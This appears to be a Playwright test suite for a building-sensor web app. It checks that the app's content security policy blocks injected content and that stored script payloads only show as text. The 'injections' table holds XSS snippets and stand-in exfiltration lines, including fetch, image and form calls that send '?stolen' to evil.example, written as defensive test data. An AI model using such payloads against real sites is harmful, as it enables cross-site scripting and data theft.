import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test, type TestContext } from 'node:test'
import type { Page } from 'playwright-core'
import { create, eventually, send } from '#test'
import { launchBrowser, openPage, skip } from './browser.ts'
import { hourMs, minuteMs, startExplorerBuilding } from './explorer-building.ts'
import { scriptPayloads } from './script-payloads.ts'

// The content security policy in a real browser: nothing of ours breaks it, and nothing that is injected runs (S5).
const place = await startExplorerBuilding()
const { as, clock } = place.server
const nowMs = Math.floor(Date.now() / hourMs) * hourMs
const room = await place.sensor(0, 'Room', 'temperature')
await place.write(
  room,
  { fromMs: nowMs - 6 * hourMs, toMs: nowMs, valueAt: (atMs) => 21 + ((atMs / hourMs) % 3) },
  nowMs,
)
clock.nowMs = Date.now()

type Breach = string
/** Each breach as directive and what was blocked; what ran in spite of all in `ran`. */
const watch = `
  globalThis.breaches = []
  globalThis.ran = []
  document.addEventListener('securitypolicyviolation', (event) =>
    globalThis.breaches.push(event.effectiveDirective + ' ' + event.blockedURI))`
const breachesOn = (page: Page): Promise<Breach[]> => page.evaluate<Breach[]>('globalThis.breaches')
const ranOn = (page: Page): Promise<unknown[]> => page.evaluate<unknown[]>('globalThis.ran')

async function open(t: TestContext, width = 1440) {
  const browser = await launchBrowser(t)
  const opened = await openPage(browser, { ...place.browsing, viewport: { width, height: 900 } })
  await opened.context.addCookies(place.cookies)
  await opened.context.addInitScript(watch)
  return opened
}

const explorer = (ids: number[]) => {
  const written = (atMs: number) => new Date(atMs).toISOString().replace(/[-:]|\.000/g, '')
  return `/explorer?building=${place.building.id}&sensors=${ids.join('-')}&from=${written(nowMs - 6 * hourMs)}&to=${written(nowMs)}`
}
const accent = (page: Page): Promise<string> =>
  page.evaluate<string>(`getComputedStyle(document.documentElement).getPropertyValue('--mantine-color-accent-6')`)

for (const width of [1440, 390]) {
  test(`no page of ours breaks the policy, with all that opens on it, ${width} px wide`, { skip }, async (t) => {
    const { page, problems } = await open(t, width)
    const assertClean = async (): Promise<void> => {
      assert.deepEqual([await breachesOn(page), problems], [[], []], page.url())
      assert.equal((await accent(page)).trim(), '#1f5fbf', 'styles that Mantine makes are taken')
    }
    const looked = [
      ['/', () => page.getByRole('heading', { level: 1 }).waitFor()],
      [`/buildings/${place.building.id}`, () => page.getByRole('rowheader').first().waitFor()],
      [`/floors/${place.floors[0].id}`, () => page.getByRole('article').first().waitFor()],
      [explorer([room.id]), () => page.locator('canvas').first().waitFor()],
    ] as const
    for (const [address, ready] of looked) {
      await page.goto(address)
      await ready()
      await assertClean()
    }
    const area = await page.locator('.u-over').first().boundingBox()
    assert.ok(area)
    await page.mouse.move(area.x + area.width / 2, area.y + 20)
    await page.getByRole('button', { name: 'Export' }).click()
    await page.getByRole('menuitem').first().waitFor()
    const download = page.waitForEvent('download')
    await page.getByRole('menuitem', { name: /CSV/ }).click()
    assert.equal(await (await download).failure(), null)
    await assertClean()

    await page.goto('/')
    await page.getByRole('heading', { level: 1 }).waitFor()
    await page.getByRole('button', { name: 'Search' }).click()
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Escape')
    if (width < 500) {
      await page.getByRole('button', { name: 'Open navigation' }).click()
      await page.getByRole('dialog').getByRole('link').first().waitFor()
    } else {
      await page.getByRole('button', { name: 'Theme' }).click()
      for (const name of ['Dark', 'Light']) await page.getByRole('menuitemradio', { name }).click()
    }
    await assertClean()
  })
}

test('the page of the API works and breaks no policy', { skip }, async (t) => {
  const { page, problems } = await open(t)
  await page.goto('/api/docs')
  await page.locator('.opblock').first().waitFor()
  await page.locator('.opblock-summary-control').first().click()
  await page.locator('.opblock-body').first().waitFor()
  await page.locator('.try-out__btn').first().click()
  await page.locator('.execute').first().click()
  await page.locator('.live-responses-table').first().waitFor()
  assert.deepEqual([await breachesOn(page), problems], [[], []])
})

/** How a script can get into a page that shows a name as markup, each with the directive that stops it. */
const injections: Record<string, [directive: string, code: string]> = {
  'an inline script': ['script-src-elem', `add('script', { textContent: 'ran.push(1)' })`],
  'a script of another site': ['script-src-elem', `add('script', { src: 'https://evil.example/x.js' })`],
  'a script in an address': ['script-src-elem', `add('script', { src: 'data:text/javascript,ran.push(1)' })`],
  'an event handler': ['script-src-attr', `html('<img src=/favicon.svg onload=ran.push(1)>')`],
  'a javascript: link': [
    'script-src-elem',
    `html('<a href="javascript:ran.push(1)">x</a>').querySelector('a').click()`,
  ],
  // Not at once: what the test itself evaluates may.
  'code from text': ['script-src', `setTimeout(() => { try { new Function('ran.push(1)')() } catch {} })`],
  'a style': ['style-src-elem', `add('style', { textContent: 'body { background: red }' })`],
  'a style attribute': ['style-src-attr', `html('<p style="background: red">x</p>')`],
  'a frame': ['frame-src', `add('iframe', { src: 'https://evil.example/' })`],
  'an object': ['object-src', `add('object', { data: '/favicon.svg' })`],
  'another base': ['base-uri', `add('base', { href: 'https://evil.example/' })`],
  'a request to another site': ['connect-src', `fetch('https://evil.example/?stolen').catch(() => {})`],
  'a picture from another site': ['img-src', `add('img', { src: 'https://evil.example/?stolen' })`],
  'a form to another site': [
    'form-action',
    `html('<form action="https://evil.example/" method=post></form>').querySelector('form').submit()`,
  ],
}
const inject = (code: string) => `{
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties))
  const html = (text) => { const at = document.createElement('div'); document.body.append(at); at.innerHTML = text; return at }
  ${code}
}`

test('whatever is injected into a page does not run, load or lead away', { skip }, async (t) => {
  const { page, problems } = await open(t)
  for (const [what, [directive, code]] of Object.entries(injections)) {
    await page.goto(`/buildings/${place.building.id}`)
    await page.getByRole('rowheader').first().waitFor()
    const address = page.url()
    await page.evaluate(inject(code))
    const breaches = await eventually(
      async () => [what, ...(await breachesOn(page))],
      (seen) => seen.length > 1,
    )
    assert.ok(breaches[1]?.startsWith(`${directive} `), breaches.join())
    assert.deepEqual(await ranOn(page), [], what)
    assert.equal(page.url(), address)
  }
  problems.length = 0
  await page.evaluate(
    `document.body.append(Object.assign(document.createElement('script'), { src: '/first-paint.js' }))`,
  )
  assert.deepEqual(problems, [], 'a file of ours is not stopped')
})

test('names that are scripts are only shown, on every page, in charts and tables', { skip }, async (t) => {
  assert.ok(scriptPayloads.length >= 30)
  const building = await create(as, '/api/buildings', {
    name: scriptPayloads[0],
    timezone: 'UTC',
    address: scriptPayloads[1],
  })
  const floors = [...scriptPayloads.keys()].map((level) => level)
  const ids: number[] = []
  for (const level of floors) {
    const name = scriptPayloads[level] as string
    const floor = await create(as, '/api/floors', { building_id: building.id, name, level })
    const zone = await create(as, '/api/zones', { floor_id: floor.id, name, kind: name.slice(0, 50) })
    const sensor = {
      floor_id: floor.id,
      zone_id: zone.id,
      sensor_key: name,
      name,
      sensor_type: 'co2',
      unit: name.slice(0, 20),
    }
    const { id } = await create(as, '/api/sensors', sensor)
    ids.push(id)
    if (level > 0) continue
    for (const [i, other] of scriptPayloads.entries())
      if (i > 0) ids.push((await create(as, '/api/sensors', { ...sensor, sensor_key: `x${other}`, name: other })).id)
  }
  const timestamp = (minutes: number) => new Date(nowMs - minutes * minuteMs).toISOString()
  await send(
    as,
    ids.flatMap((sensor_id) => [1, 2, 3].map((m) => ({ sensor_id, timestamp: timestamp(m), value: 600 + m }))),
  )

  const { page, problems } = await open(t)
  const assertNothingRan = async (): Promise<void> => {
    assert.deepEqual([await ranOn(page), await breachesOn(page), problems], [[], [], []], page.url())
  }
  await page.goto('/')
  await page
    .getByText(scriptPayloads[0] as string)
    .first()
    .waitFor()
  await assertNothingRan()
  await page.goto(`/buildings/${building.id}`)
  await eventually(
    () => page.getByRole('rowheader').count(),
    (n) => n === scriptPayloads.length,
  )
  await assertNothingRan()
  const { items } = (await as('GET', `/api/floors?building_id=${building.id}&limit=100`)).json()
  await page.goto(`/floors/${items.find(({ level }: { level: number }) => level === 0).id}`)
  await eventually(
    () => page.getByRole('article').count(),
    (n) => n === scriptPayloads.length,
  )
  for (const tile of await page.getByRole('article').all()) await tile.hover()
  await assertNothingRan()
  for (let first = 0; first < ids.length; first += 25) {
    await page.goto(explorer(ids.slice(first, first + 25)).replace(/building=\d+/, `building=${building.id}`))
    await page.locator('canvas').first().waitFor()
    const area = await page.locator('.u-over').first().boundingBox()
    assert.ok(area)
    for (const part of [0.2, 0.9, 0.99]) await page.mouse.move(area.x + area.width * part, area.y + 20)
    for (const row of await page.getByRole('row').all()) await row.hover()
    await assertNothingRan()
  }
  await page.getByRole('button', { name: 'Search' }).click()
  await page
    .getByRole('dialog')
    .getByRole('searchbox')
    .or(page.getByRole('dialog').getByRole('textbox'))
    .fill('ran.push')
  await page.getByRole('dialog').getByText('ran.push').first().waitFor()
  await assertNothingRan()
})

test('no other site can show a page of ours in a frame', { skip }, async (t) => {
  const { page } = await open(t)
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<iframe src="${place.address}/" onload="document.title = 'loaded'"></iframe>`)
  })
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
  t.after(() => site.close())
  await page.goto(`http://localhost:${(site.address() as AddressInfo).port}/`)
  await page.waitForFunction(`document.title === 'loaded'`)
  const [, frame] = page.frames()
  assert.match(frame?.url() ?? '', /^chrome-error:/)
})
